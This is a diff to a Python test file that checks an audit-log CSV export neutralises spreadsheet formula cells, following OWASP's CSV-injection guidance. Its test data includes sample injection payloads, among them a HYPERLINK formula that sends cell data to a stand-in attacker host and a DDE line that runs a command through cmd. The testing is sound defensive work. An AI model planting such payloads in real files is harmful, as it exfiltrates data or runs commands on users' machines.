@@ -81,6 +81,14 @@ def _stored(engine) -> list[dict]:
     return stored
 
 
+def _cell(text: str) -> str:
+    """A CSV cell as it was before the export neutralised it: one leading quote taken off a
+    cell that a spreadsheet would evaluate (or that began with a quote itself)."""
+    return (
+        text[1:] if text[:1] == "'" and text[1:2] in ("=", "+", "-", "@", "\t", "\r", "'") else text
+    )
+
+
 def _same_event(exported: dict, stored: dict, *, csv_text: bool = False) -> None:
     assert list(exported) == list(stored), "every column, in the table's order"
     for name, value in stored.items():
@@ -90,9 +98,9 @@ def _same_event(exported: dict, stored: dict, *, csv_text: bool = False) -> None
         elif name == "detail":
             assert (json.loads(got) if csv_text else got) == value
         elif isinstance(value, bytes | memoryview):  # a binary column (a MAC) travels in base64
-            assert base64.b64decode(got) == bytes(value), name
+            assert base64.b64decode(_cell(got) if csv_text else got) == bytes(value), name
         elif csv_text:
-            assert got == ("" if value is None else str(value)), name
+            assert _cell(got) == ("" if value is None else str(value)), name
         else:
             assert got == value, name
 
@@ -118,6 +126,59 @@ def test_jsonl_and_csv_carry_every_event_and_column_intact(engine, database_url,
     assert len(records) == 15
     for record, row in zip(records, stored, strict=True):
         _same_event(record, row, csv_text=True)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_evaluate(engine, database_url, tmp_path):
+    """OWASP's CSV-injection guidance: a cell that begins with =, +, -, @, a tab or a carriage
+    return is evaluated by spreadsheets; the export prefixes it with a single quote (and a cell
+    that already began with one gets a second, so the mapping stays one-to-one). JSON lines
+    carry every value exactly."""
+    with session_scope(engine) as session:
+        record_events(
+            session,
+            [
+                {
+                    "team_id": "T0TEST",
+                    "at": NOW - timedelta(minutes=n),
+                    "actor": text,
+                    "action": "key.registered",
+                    "target": text,
+                    "target_key_id": "k1",
+                    "source": "slash",
+                    "detail": {"label": text},
+                }
+                for n, text in enumerate(FORMULAS)
+            ],
+        )
+    as_csv = _export(
+        database_url, tmp_path, "--since", "1d", "--format", "csv", "--output", "t.csv"
+    )
+    assert as_csv.returncode == 0, as_csv.stderr
+    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as exported:  # as csv wants it
+        records = list(csv.DictReader(exported))
+    assert len(records) == len(FORMULAS), "a carriage return inside a cell stays in its cell"
+    assert [r["target"] for r in records] == ["'" + text for text in FORMULAS]
+    assert [r["actor"] for r in records] == ["'" + text for text in FORMULAS]
+    for record in records:
+        for name, cell in record.items():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
+        assert json.loads(record["detail"])["label"] in FORMULAS  # the JSON column is JSON
+
+    jsonl = _export(database_url, tmp_path, "--since", "1d")
+    exact = [json.loads(line) for line in jsonl.stdout.splitlines()]
+    assert [e["target"] for e in exact] == FORMULAS
+    assert [e["detail"]["label"] for e in exact] == FORMULAS
 
 
 def test_since_and_until_select_by_time(engine, database_url, tmp_path):
